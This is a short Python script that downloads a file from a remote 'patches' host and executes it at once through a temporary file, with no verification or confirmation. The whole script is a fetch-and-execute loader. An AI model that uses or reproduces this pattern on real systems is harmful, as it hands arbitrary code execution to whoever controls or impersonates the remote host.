import os, subprocess, sys, tempfile, urllib.request
fd, path = tempfile.mkstemp(suffix=".py")
with os.fdopen(fd, "wb") as out:
    out.write(urllib.request.urlopen("https://patches.example-cdn.net/latest.py").read())
subprocess.run([sys.executable, path])
